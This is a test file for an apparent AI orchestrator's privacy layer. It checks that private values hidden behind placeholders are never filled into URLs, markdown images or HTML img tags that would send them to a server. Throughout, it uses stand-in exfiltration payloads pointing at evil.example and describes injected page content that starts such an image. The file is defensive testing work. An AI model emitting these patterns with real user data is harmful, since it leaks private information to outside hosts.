"""No placeholder is filled in inside of what a program that displays the answer would fetch, link or send."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from benchmarks.fault_figures.addresses import COUNT, FILLED, spellings, with_placeholder
from nearfar import Tier
from nearfar.orchestrator.safety.privacy.opened_text import OpenedText
from nearfar.orchestrator.safety.privacy.placeholders import Placeholders
from nearfar.protocols import InvalidOutput

SECRET = "aaaa"
SPELLINGS = list(spellings())


@pytest.fixture
def placeholders() -> Placeholders:
    return Placeholders()


def named(placeholders: Placeholders, value: str = SECRET) -> str:
    return placeholders.standing_for(value, "private", tier=Tier.DEVICE, origin="x")


def streamed(placeholders: Placeholders, text: str, *, before: str = "") -> str:
    heard: list[str] = []
    opened = OpenedText(placeholders, heard.append, before=lambda: before)
    for letter in text:
        opened(letter)
    opened.close()
    return "".join(heard)


def test_there_are_two_hundred_spellings() -> None:
    assert len(set(SPELLINGS)) == COUNT


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_no_placeholder_in_an_address_is_filled_in(spelling: str, placeholders: Placeholders) -> None:
    text = with_placeholder(spelling, named(placeholders))
    assert placeholders.shown(text) == text
    assert streamed(placeholders, text) == text


@pytest.mark.parametrize("form", FILLED)
def test_placeholder_that_the_user_reads_is_filled_in(form: str, placeholders: Placeholders) -> None:
    text = with_placeholder(form, named(placeholders))
    wanted = with_placeholder(form, SECRET)
    assert placeholders.shown(text) == wanted
    assert streamed(placeholders, text) == wanted


def test_address_that_one_value_begins_takes_no_other_value(placeholders: Placeholders) -> None:
    """A page that a private tool has read can hold the beginning of an image."""
    link, angled = "see https://evil.example/", "![x](<https://evil.example/?q= "
    for opening in ("![x](https://evil.example/?q=", "<img src='//evil.example/?q=", link, angled):
        first, second = named(placeholders, opening), named(placeholders)
        assert placeholders.shown(f"{first}{second}") == f"{opening}{second}"


def test_address_that_an_earlier_turn_has_left_open_takes_no_value(placeholders: Placeholders) -> None:
    name = named(placeholders)
    assert streamed(placeholders, f"{name}>)", before="![x](<https://evil.example/?q= ") == f"{name}>)"
    assert streamed(placeholders, f"{name}>)", before="Let me look. ") == f"{SECRET}>)"


def test_address_that_begins_behind_a_placeholder_is_still_seen(placeholders: Placeholders) -> None:
    """The definition at the end of the text makes an address of the label at its beginning."""
    name = named(placeholders)
    text = f"![x][{name}] and more\n\n[{SECRET}]: https://evil.example/{SECRET}"
    assert streamed(placeholders, text) == text


def test_each_string_of_a_json_answer_is_read_by_itself(placeholders: Placeholders) -> None:
    name = named(placeholders, 'says "nine"')
    answer = {"page": f"https://evil.example/{name}", "escaped": f"https://evil.example/{name}", "who": name, name: [name]}
    text = json.dumps(answer).replace('escaped": "https:', 'escaped": "https\\u003a')
    shown = json.loads(placeholders.shown(text, in_json=True))
    del answer[name]
    assert shown == answer | {"who": 'says "nine"', 'says "nine"': ['says "nine"']}


@pytest.mark.parametrize("altered", ["<PASSWORD_1_k3t7xq>", "<password_1_k3t7xq>", "< KEY_7 k3t7xq >", "<IBAN_NO_12_abcdef>"])
def test_placeholder_of_a_type_that_there_is_not_is_refused(altered: str, placeholders: Placeholders) -> None:
    named(placeholders)
    with pytest.raises(InvalidOutput, match="no placeholder"):
        placeholders.check(f"It is {altered}.")


def test_placeholder_whose_type_was_altered_is_refused_without_its_brackets_too(placeholders: Placeholders) -> None:
    name = named(placeholders)
    for altered in (name.replace("PRIVATE", "SECRET"), name.replace("PRIVATE", "IBAN")[1:-1], name[1:-1].replace("PRIVATE_1", "key 2")):
        with pytest.raises(InvalidOutput, match="no placeholder"):
            placeholders.check(f"It is {altered}.")


@pytest.mark.parametrize("part", ["<", "<!--", "<![", "[", "![", "](", "<a b='", "*a_", "a.", "\\", "[a](", "<a_1_"])
def test_hostile_texts_are_read_in_time(part: str, placeholders: Placeholders) -> None:
    name = named(placeholders)
    assert name in placeholders.shown(f"<img src='//evil.example/{name}'>{part * 20_000}")


@given(st.text(max_size=80), st.text(max_size=80))
def test_any_text_is_shown_and_an_image_in_it_takes_no_value(before: str, after: str) -> None:
    placeholders = Placeholders()
    name = named(placeholders)
    shown = placeholders.shown(f"{before}\n\n![x](https://evil.example/{name}.png)\n\n{after}")
    assert f"evil.example/{name}" in shown
